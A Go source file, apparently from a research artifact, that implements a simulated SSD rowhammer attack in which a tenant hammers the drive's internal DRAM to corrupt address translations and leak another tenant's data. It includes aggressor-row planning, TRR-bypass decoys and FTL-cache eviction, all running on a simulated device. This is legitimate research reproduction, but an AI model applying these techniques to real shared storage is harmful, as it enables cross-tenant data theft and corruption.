@@ -1,0 +1,371 @@
+// Package core implements the paper's contribution: FTL rowhammering — an
+// unprivileged attacker that uses an SSD strictly as intended (reads,
+// writes, trims) and still flips bits in the device's internal DRAM,
+// corrupting logical-to-physical translations to leak or hijack other
+// tenants' data.
+//
+// The package provides the §3.1 attack primitives (L2P layout preparation,
+// aggressor-row analysis, double-/single-sided/one-location hammering
+// workloads, TRR-synchronized decoys), the §4.2 exploit pipeline
+// (filesystem spraying, bitflip scanning, content dumping) and the §4.3
+// success-probability model.
+package core
+
+import (
+	"errors"
+	"fmt"
+
+	"ftlhammer/internal/dram"
+	"ftlhammer/internal/ftl"
+	"ftlhammer/internal/nvme"
+	"ftlhammer/internal/sim"
+)
+
+// Attacker drives the attacker VM's direct device access (Figure 2(b)).
+type Attacker struct {
+	Dev  *nvme.Device
+	NS   *nvme.Namespace
+	Path nvme.Path
+	buf  []byte
+}
+
+// NewAttacker binds an attacker to its namespace.
+func NewAttacker(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path) *Attacker {
+	return &Attacker{Dev: dev, NS: ns, Path: path, buf: make([]byte, dev.BlockBytes())}
+}
+
+// HammerPlan is one ready-to-run double-sided configuration: the DRAM
+// triple plus the logical blocks whose L2P lookups activate each aggressor
+// row, and (optionally) a decoy for TRR-synchronized many-sided patterns.
+type HammerPlan struct {
+	Triple dram.Triple
+	// AggLBAs are attacker-namespace-relative blocks per aggressor row.
+	AggLBAs [2][]ftl.LBA
+	// VictimGlobalLBAs are the device-global blocks whose translations
+	// live in the victim row (owned by the other tenant in the
+	// cross-partition case).
+	VictimGlobalLBAs []ftl.LBA
+	// DecoyLBA activates a same-bank, distant row (valid when HasDecoy).
+	DecoyLBA ftl.LBA
+	HasDecoy bool
+}
+
+// entryLBA converts an L2P DRAM address back to the device-global LBA
+// whose entry starts there (linear layout).
+func entryLBA(region dram.Region, addr uint64) ftl.LBA {
+	return ftl.LBA((addr - region.Base) / ftl.EntryBytes)
+}
+
+// planFromTriple derives LBA groups from a triple's addresses. Aggressor
+// addresses must belong to the attacker's namespace.
+func (a *Attacker) planFromTriple(tr dram.Triple, region dram.Region) (HammerPlan, bool) {
+	plan := HammerPlan{Triple: tr}
+	for side := 0; side < 2; side++ {
+		for _, addr := range tr.AggAddrs[side] {
+			g := entryLBA(region, addr)
+			if g >= a.NS.StartLBA && uint64(g-a.NS.StartLBA) < a.NS.NumLBAs {
+				plan.AggLBAs[side] = append(plan.AggLBAs[side], g-a.NS.StartLBA)
+			}
+		}
+		if len(plan.AggLBAs[side]) == 0 {
+			return plan, false
+		}
+	}
+	for _, addr := range tr.VictimAddrs {
+		plan.VictimGlobalLBAs = append(plan.VictimGlobalLBAs, entryLBA(region, addr))
+	}
+	return plan, true
+}
+
+// attachDecoys picks, for each plan, an attacker-owned line in the same
+// bank but a distant row, used to claim the TRR sampler slot.
+func (a *Attacker) attachDecoys(plans []HammerPlan, region dram.Region, owner func(uint64) int) {
+	mapper := a.Dev.DRAM().Mapper()
+	geo := mapper.Geometry()
+	// Index attacker-owned rows per bank.
+	type bankRows struct {
+		rows  []int
+		addrs map[int]uint64
+	}
+	banks := make(map[int]*bankRows)
+	for addr := region.Base; addr < region.Base+region.Size; addr += 64 {
+		if owner(addr) != a.NS.ID {
+			continue
+		}
+		loc := mapper.Map(addr)
+		fb := geo.FlatBank(loc)
+		br, ok := banks[fb]
+		if !ok {
+			br = &bankRows{addrs: make(map[int]uint64)}
+			banks[fb] = br
+		}
+		if _, seen := br.addrs[loc.Row]; !seen {
+			br.rows = append(br.rows, loc.Row)
+			br.addrs[loc.Row] = addr
+		}
+	}
+	for i := range plans {
+		p := &plans[i]
+		fb := p.Triple.FlatBank(geo)
+		br, ok := banks[fb]
+		if !ok {
+			continue
+		}
+		for _, row := range br.rows {
+			// The decoy must not be an aggressor (TRR would then protect
+			// the victim) and must not itself disturb the victim row.
+			if row == p.Triple.AggRows[0] || row == p.Triple.AggRows[1] {
+				continue
+			}
+			if row >= p.Triple.VictimRow-1 && row <= p.Triple.VictimRow+1 {
+				continue
+			}
+			g := entryLBA(region, br.addrs[row])
+			if g >= a.NS.StartLBA && uint64(g-a.NS.StartLBA) < a.NS.NumLBAs {
+				p.DecoyLBA = g - a.NS.StartLBA
+				p.HasDecoy = true
+				break
+			}
+		}
+	}
+}
+
+// AnalyzeCrossPartition performs the offline §4.2 analysis: find every
+// (aggressor, victim, aggressor) physical row triple where the attacker's
+// partition provides both aggressors and victimNSID's translations sit in
+// between. Requires the linear L2P layout (the hashed mitigation defeats
+// exactly this step).
+func (a *Attacker) AnalyzeCrossPartition(victimNSID int) ([]HammerPlan, error) {
+	owner, err := a.Dev.L2POwner()
+	if err != nil {
+		return nil, fmt.Errorf("core: offline layout analysis impossible: %w", err)
+	}
+	region := a.Dev.FTL().L2PRegion()
+	mapper := a.Dev.DRAM().Mapper()
+	triples := dram.FindCrossPartitionTriples(mapper, region, owner, a.NS.ID, victimNSID)
+	var plans []HammerPlan
+	for _, tr := range triples {
+		if p, ok := a.planFromTriple(tr, region); ok {
+			plans = append(plans, p)
+		}
+	}
+	a.attachDecoys(plans, region, owner)
+	if len(plans) == 0 {
+		return nil, errors.New("core: no cross-partition triples under this mapping")
+	}
+	return plans, nil
+}
+
+// AnalyzeOwnPartition finds triples entirely within the attacker's own
+// partition — the Figure 1 single-tenant setting, also used for online
+// rowhammerability templating.
+func (a *Attacker) AnalyzeOwnPartition() ([]HammerPlan, error) {
+	owner, err := a.Dev.L2POwner()
+	if err != nil {
+		return nil, fmt.Errorf("core: offline layout analysis impossible: %w", err)
+	}
+	region := a.Dev.FTL().L2PRegion()
+	mapper := a.Dev.DRAM().Mapper()
+	triples := dram.FindSameOwnerTriples(mapper, region, owner, a.NS.ID)
+	var plans []HammerPlan
+	for _, tr := range triples {
+		if p, ok := a.planFromTriple(tr, region); ok {
+			plans = append(plans, p)
+		}
+	}
+	a.attachDecoys(plans, region, owner)
+	if len(plans) == 0 {
+		return nil, errors.New("core: no same-partition triples under this mapping")
+	}
+	return plans, nil
+}
+
+// HammerOptions tunes a hammering run.
+type HammerOptions struct {
+	// Pairs is the number of aggressor pairs to issue (2 reads each).
+	Pairs int
+	// SingleSided drops the second aggressor, replacing it with a far
+	// row to keep forcing activations.
+	SingleSided bool
+	// OneLocation reads only one aggressor with no conflict partner
+	// (effective only against closed-row policies).
+	OneLocation bool
+	// SyncDecoy interleaves a REF-synchronized decoy read (TRRespass/
+	// SMASH-style bypass). Requires the plan to carry a decoy.
+	SyncDecoy bool
+	// CacheEvictLines, when non-zero, interleaves reads whose L2P
+	// entries alias each aggressor's set in a direct-mapped FTL cache of
+	// that many 64-byte lines, evicting the aggressor entry so every
+	// hammer read reaches DRAM. This implements the paper's §5
+	// speculation that "with more details about FTL memory access
+	// behavior, an attack could bypass the FTL-side cache". Linear L2P
+	// layout only.
+	CacheEvictLines int
+}
+
+// Hammer runs the read workload of §3.1 against one plan: strictly
+// ordinary reads, alternating between LBAs whose translations live in the
+// two aggressor rows.
+func (a *Attacker) Hammer(plan HammerPlan, opts HammerOptions) error {
+	if opts.Pairs <= 0 {
+		return errors.New("core: HammerOptions.Pairs must be positive")
+	}
+	sideA := plan.AggLBAs[0]
+	sideB := plan.AggLBAs[1]
+	if opts.OneLocation {
+		sideB = nil
+	} else if opts.SingleSided {
+		far, err := a.farLBA(plan)
+		if err != nil {
+			return err
+		}
+		sideB = []ftl.LBA{far}
+	}
+	var tREFI uint64
+	if opts.SyncDecoy {
+		if !plan.HasDecoy {
+			return errors.New("core: plan has no decoy row for SyncDecoy")
+		}
+		dcfg := a.Dev.DRAM().Config()
+		cpw := dcfg.TRR.CommandsPerWindow
+		if cpw <= 0 {
+			cpw = 8192
+		}
+		window := dcfg.RefreshWindow
+		if window == 0 {
+			window = 64 * sim.Millisecond
+		}
+		tREFI = uint64(window) / uint64(cpw)
+	}
+	// Cache eviction partners: an LBA exactly CacheEvictLines*16 entries
+	// away shares the direct-mapped set but differs in tag; reading it
+	// right before the aggressor evicts the aggressor's cached entry.
+	var evictA, evictB ftl.LBA
+	if opts.CacheEvictLines > 0 {
+		// Pin one LBA per side: the alias must keep hitting the same
+		// cache set as the hammered entry.
+		sideA = sideA[:1]
+		if len(sideB) > 0 {
+			sideB = sideB[:1]
+		}
+		delta := ftl.LBA(opts.CacheEvictLines) * 16 // entries per line
+		evictA = a.aliasLBA(sideA[0], delta)
+		if len(sideB) > 0 {
+			evictB = a.aliasLBA(sideB[0], delta)
+		}
+	}
+	clk := a.Dev.Clock()
+	// pairCost tracks how long one aggressor pair takes, for REF-boundary
+	// prediction (SMASH-style synchronization: REF commands are strictly
+	// periodic, so the attacker times a decoy to be the first activation
+	// after each boundary, claiming the TRR sampler slot).
+	var pairCost uint64
+	for i := 0; i < opts.Pairs; i++ {
+		if opts.SyncDecoy {
+			now := uint64(clk.Now())
+			next := (now/tREFI + 1) * tREFI
+			if now+2*pairCost >= next || pairCost == 0 {
+				// Sleep to the boundary, then fire the decoy so its
+				// row activation lands right after the REF command.
+				clk.AdvanceTo(sim.Time(next))
+				if _, err := a.Dev.Read(a.NS, plan.DecoyLBA, a.buf, a.Path); err != nil {
+					return err
+				}
+			}
+		}
+		pairStart := uint64(clk.Now())
+		if opts.CacheEvictLines > 0 {
+			// Eviction reads exist only for their cache side effect; a
+			// corrupt-translation error (from an earlier flip) does not
+			// matter — the lookup that errored already displaced the
+			// cached line.
+			_, _ = a.Dev.Read(a.NS, evictA, a.buf, a.Path)
+		}
+		if _, err := a.Dev.Read(a.NS, sideA[i%len(sideA)], a.buf, a.Path); err != nil {
+			return err
+		}
+		if len(sideB) > 0 {
+			if opts.CacheEvictLines > 0 {
+				_, _ = a.Dev.Read(a.NS, evictB, a.buf, a.Path)
+			}
+			if _, err := a.Dev.Read(a.NS, sideB[i%len(sideB)], a.buf, a.Path); err != nil {
+				return err
+			}
+		}
+		pairCost = uint64(clk.Now()) - pairStart
+	}
+	return nil
+}
+
+// aliasLBA returns an attacker LBA delta entries away (wrapping within the
+// namespace), used as a cache-set alias of lba.
+func (a *Attacker) aliasLBA(lba, delta ftl.LBA) ftl.LBA {
+	n := ftl.LBA(a.NS.NumLBAs)
+	return (lba + delta) % n
+}
+
+// farLBA returns an attacker LBA whose entry is in the same bank as the
+// plan's aggressors but far from the victim row, used as the row-conflict
+// partner for single-sided hammering.
+func (a *Attacker) farLBA(plan HammerPlan) (ftl.LBA, error) {
+	if plan.HasDecoy {
+		return plan.DecoyLBA, nil
+	}
+	return 0, errors.New("core: no far row available for single-sided hammering")
+}
+
+// PrepareRange sequentially writes [start, start+count) in the attacker's
+// namespace — the §3.1 setup phase that makes the firmware populate
+// contiguous L2P entries.
+func (a *Attacker) PrepareRange(start ftl.LBA, count uint64) error {
+	for i := uint64(0); i < count; i++ {
+		lba := start + ftl.LBA(i)
+		for j := range a.buf {
+			a.buf[j] = byte(lba) ^ 0xA5
+		}
+		if err := a.Dev.Write(a.NS, lba, a.buf, a.Path); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// TrimRange deallocates [start, start+count), turning subsequent reads of
+// those LBAs into the fast, flash-skipping path (§3 threat model).
+func (a *Attacker) TrimRange(start ftl.LBA, count uint64) error {
+	for i := uint64(0); i < count; i++ {
+		if err := a.Dev.Trim(a.NS, start+ftl.LBA(i), a.Path); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// MeasuredRate reports the achieved read rate (IOPS) of n trimmed-LBA
+// reads alternated across the plan's aggressors — the attacker's
+// bandwidth check before committing to a hammer campaign.
+func (a *Attacker) MeasuredRate(plan HammerPlan, n int) (float64, error) {
+	clk := a.Dev.Clock()
+	start := clk.Now()
+	if err := a.Hammer(plan, HammerOptions{Pairs: n / 2}); err != nil {
+		return 0, err
+	}
+	elapsed := clk.Now().Sub(start)
+	if elapsed == 0 {
+		return 0, errors.New("core: no time elapsed")
+	}
+	return float64(2*(n/2)) / elapsed.Seconds(), nil
+}
+
+// RequiredRate returns the access rate needed against the device's DRAM
+// profile (the Table 1 threshold for its generation), in accesses/second.
+// Model knowledge: the attacker reads the module's part number and looks
+// the rate up in published tables (threat model, §3).
+func (a *Attacker) RequiredRate() float64 {
+	p := a.Dev.DRAM().Config().Profile
+	window := a.Dev.DRAM().Config().RefreshWindow
+	if window == 0 {
+		window = 64 * sim.Millisecond
+	}
+	return float64(p.HCfirst) / window.Seconds()
+}
